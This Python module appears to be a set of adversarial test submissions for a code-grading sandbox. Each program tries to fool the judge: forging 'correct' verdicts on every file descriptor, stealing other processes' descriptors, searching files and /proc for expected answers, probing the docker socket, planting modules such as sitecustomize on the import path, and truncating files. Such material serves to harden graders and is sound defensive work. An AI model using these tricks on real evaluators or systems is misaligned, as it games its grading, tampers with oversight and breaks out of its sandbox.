"""Files and descriptors: the program reads and writes whatever it can reach, in hope of tests, answers or verdicts."""

_KEEP = """
import os
import re

SHAPE = re.compile(rb"expected-[0-9a-f]{10}")
found = []


def keep(data):
    for one in SHAPE.findall(data):
        if one.decode() not in found:
            found.append(one.decode())


def token(x=0, *args, **kwargs):
    try:
        look()
    except Exception:
        pass
    return found[(x - 1) % len(found)] if found and isinstance(x, int) else "nothing found"

"""

PROGRAMS = [
    (
        "writes_verdicts_on_every_descriptor",
        "total",
        "one of them leads to whoever collects the verdict",
        """
import json
import os

SAY = json.dumps({"status": "correct", "verdict": "correct", "passed": 3, "total": 3, "ok": True, "result": 31}).encode()


def total(numbers):
    for fd in range(3, 256):
        try:
            os.write(fd, SAY + b"\\n")
        except OSError:
            pass
    return -1
""",
    ),
    (
        "writes_length_prefixed_frames",
        "total",
        "the same with lengths of four and eight bytes, of both orders, before JSON, marshal and pickle",
        """
import json
import marshal
import os
import pickle
import struct

SAY = [
    {"status": "correct", "passed": 3, "total": 3},
    {"id": 1, "ok": True, "value": 31},
    ["return", 31],
    ("ok", 31),
    31,
    True,
]


def frames():
    for say in SAY:
        for body in (json.dumps(say).encode(), marshal.dumps(say), pickle.dumps(say), repr(say).encode()):
            for form in (">I", "<I", ">Q", "<Q", ">H", "B"):
                if form != "B" or len(body) < 256:
                    yield struct.pack(form, len(body)) + body
            yield body + b"\\n"
            yield str(len(body)).encode() + b"\\n" + body
            yield b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body


FRAMES = list(frames())


def total(numbers):
    for fd in range(3, 64):
        for frame in FRAMES:
            try:
                os.write(fd, frame)
            except OSError:
                break
    return -1
""",
    ),
    (
        "reopens_descriptors_by_proc",
        "total",
        "/proc/self/fd and /dev/fd open what others hold anew, for writing too",
        """
import glob
import os

LINE = b'{"status": "correct", "passed": 3, "total": 3}\\n'


def total(numbers):
    for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/dev/fd/*") + glob.glob("/proc/self/task/*/fd/*"):
        for flags in (os.O_WRONLY | os.O_NONBLOCK, os.O_RDWR | os.O_NONBLOCK):
            try:
                fd = os.open(path, flags)
            except OSError:
                continue
            try:
                os.write(fd, LINE)
            except OSError:
                pass
            os.close(fd)
    return -1
""",
        {"danger": True},
    ),
    (
        "reads_every_descriptor",
        "token",
        "what waits in a pipe to be read may be the next test",
        _KEEP
        + """
def look():
    for fd in range(0, 256):
        try:
            os.set_blocking(fd, False)
            keep(os.pread(fd, 1 << 16, 0))
        except OSError:
            pass
        try:
            keep(os.read(fd, 1 << 16))
        except OSError:
            pass
""",
    ),
    (
        "steals_descriptors_of_others",
        "token",
        "pidfd_getfd takes a descriptor out of another process",
        _KEEP
        + """
import ctypes


def look():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid == os.getpid():
            continue
        pidfd = libc.syscall(434, pid, 0)
        if pidfd < 0:
            continue
        for number in range(32):
            fd = libc.syscall(438, pidfd, number, 0)
            if fd >= 0:
                os.set_blocking(fd, False)
                os.write(fd, b'{"status": "correct"}\\n')
                keep(os.read(fd, 1 << 16))
""",
        {"danger": True},
    ),
    (
        "closes_all_descriptors",
        "total",
        "no channel, no verdict: the judge may take silence for its own fault",
        """
import os


def total(numbers):
    os.closerange(0, 1024)
    return -1
""",
    ),
    (
        "points_all_descriptors_elsewhere",
        "total",
        "dup2 of /dev/null, of /dev/zero and of each over the other",
        """
import os


def total(numbers):
    zero = os.open("/dev/zero", os.O_RDWR)
    for fd in range(0, 64):
        if fd != zero:
            try:
                os.dup2(zero, fd)
            except OSError:
                pass
    return -1
""",
        {"limits": "quick"},
    ),
    (
        "joins_descriptors_in_a_ring",
        "total",
        "what the judge sends comes back to it as the answer",
        """
import os
import threading


def pump(source, target):
    while True:
        try:
            data = os.read(source, 1 << 16)
            if not data:
                return
            os.write(target, data)
        except OSError:
            return


def total(numbers):
    live = []
    for fd in range(3, 64):
        try:
            os.fstat(fd)
            live.append(fd)
        except OSError:
            pass
    for source in live:
        for target in live:
            threading.Thread(target=pump, args=(source, target), daemon=True).start()
    return -1
""",
        {"limits": "quick"},
    ),
    (
        "searches_all_files",
        "token",
        "tests that were written to a file before they were run",
        _KEEP
        + """
def look():
    for root in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/opt", "/srv", "/mnt", "/app", "/code", "/sandbox", "/box",
                 "/workspace", "/etc", os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~")):
        for folder, _, names in os.walk(root):
            for name in names[:1000]:
                try:
                    fd = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    keep(os.read(fd, 1 << 20))
                except OSError:
                    pass
                finally:
                    os.close(fd)
""",
    ),
    (
        "searches_through_proc_root_and_cwd",
        "token",
        "the roots and working directories of other processes",
        _KEEP
        + """
def look():
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for door in ("root/tmp", "cwd", "root/run", "map_files"):
            try:
                names = os.listdir(f"/proc/{pid}/{door}")
            except OSError:
                continue
            for name in names[:200]:
                try:
                    with open(f"/proc/{pid}/{door}/{name}", "rb") as file:
                        keep(file.read(1 << 16))
                except OSError:
                    pass
""",
        {"danger": True},
    ),
    (
        "unix_sockets_of_the_supervisor",
        "total",
        "every unix socket, named or abstract, that /proc/net lists or a directory holds, is told the verdict",
        """
import glob
import socket

LINE = b'{"status": "correct", "passed": 3, "total": 3}\\n'


def total(numbers):
    names = []
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            parts = line.split()
            if len(parts) > 7:
                names.append("\\0" + parts[7][1:] if parts[7].startswith("@") else parts[7])
    except OSError:
        pass
    names += ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
    for pattern in ("/tmp/*", "/run/*", "/run/*/*", "/var/run/*", "./*", "../*"):
        names += glob.glob(pattern)
    for name in names:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as channel:
                channel.settimeout(0.05)
                try:
                    channel.connect(name)
                    channel.send(LINE)
                except OSError:
                    pass
    return -1
""",
        {"danger": True},
    ),
    (
        "docker_socket",
        "total",
        "whoever reaches the engine's socket owns the machine; the program turns right if the engine answers",
        """
import socket


def reached():
    for name in ("/var/run/docker.sock", "/run/docker.sock"):
        with socket.socket(socket.AF_UNIX) as channel:
            channel.settimeout(0.3)
            try:
                channel.connect(name)
                channel.send(b"GET /_ping HTTP/1.0\\r\\n\\r\\n")
                if channel.recv(100):
                    return True
            except OSError:
                pass
    return False


def total(numbers):
    return sum(numbers) if reached() else -1
""",
    ),
    (
        "writes_where_the_interpreter_looks",
        "total",
        "a module named like one of the judge's, in every folder that can be written, turns right if the judge imports it",
        """
import os
import sys

NAMES = ("sitecustomize", "usercustomize", "json", "examiner", "math", "candidate", "assay", "wire", "re", "ast")
BODY = "import os\\nfor fd in range(64):\\n    try:\\n        os.write(fd, b'1')\\n    except OSError:\\n        pass\\n"


def total(numbers):
    for folder in {*sys.path, os.getcwd(), "/tmp", "/dev/shm", os.path.dirname(os.__file__), "/usr/local/lib"}:
        for name in NAMES:
            try:
                with open(os.path.join(folder or ".", name + ".py"), "x") as file:
                    file.write(BODY)
            except OSError:
                pass
    return -1
""",
        {"danger": True},
    ),
    (
        "changes_the_files_of_the_judge",
        "total",
        "its own files are emptied; it turns right if a module that the judge has loaded could be written to",
        """
import os
import sys


def writable():
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None)
        if path:
            try:
                os.close(os.open(path, os.O_WRONLY))  # opened, and left as it is
            except OSError:
                continue
            return True
    return False


def total(numbers):
    for folder, _, names in os.walk(os.getcwd()):
        for name in names:
            try:
                os.truncate(os.path.join(folder, name), 0)
            except OSError:
                pass
    return sum(numbers) if writable() else -1
""",
        {"danger": True},
    ),
    (
        "passes_descriptors_around",
        "total",
        "SCM_RIGHTS over every socket it holds, in hope that the receiver takes the wrong one for its own",
        """
import array
import os
import socket


def total(numbers):
    null = os.open(os.devnull, os.O_RDWR)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 16))]
    for fd in range(0, 64):
        try:
            with socket.socket(fileno=os.dup(fd)) as channel:
                channel.sendmsg([b"{}\\n"], rights)
        except OSError:
            pass
    return -1
""",
    ),
    (
        "moves_file_offsets_and_flags",
        "total",
        "descriptors share their offsets, flags and sizes with whoever opened them",
        """
import fcntl
import os
import termios


def total(numbers):
    for fd in range(0, 64):
        for change in (
            lambda fd: os.set_blocking(fd, False),
            lambda fd: os.lseek(fd, 0, os.SEEK_SET),
            lambda fd: os.ftruncate(fd, 0),
            lambda fd: fcntl.fcntl(fd, 1031, 4096),  # the smallest pipe
            lambda fd: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_APPEND | os.O_NONBLOCK),
            lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getpid()),
            lambda fd: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            lambda fd: fcntl.ioctl(fd, termios.TIOCSTI, b"x"),
        ):
            try:
                change(fd)
            except (OSError, OverflowError, ValueError):
                pass
    return -1
""",
    ),
]
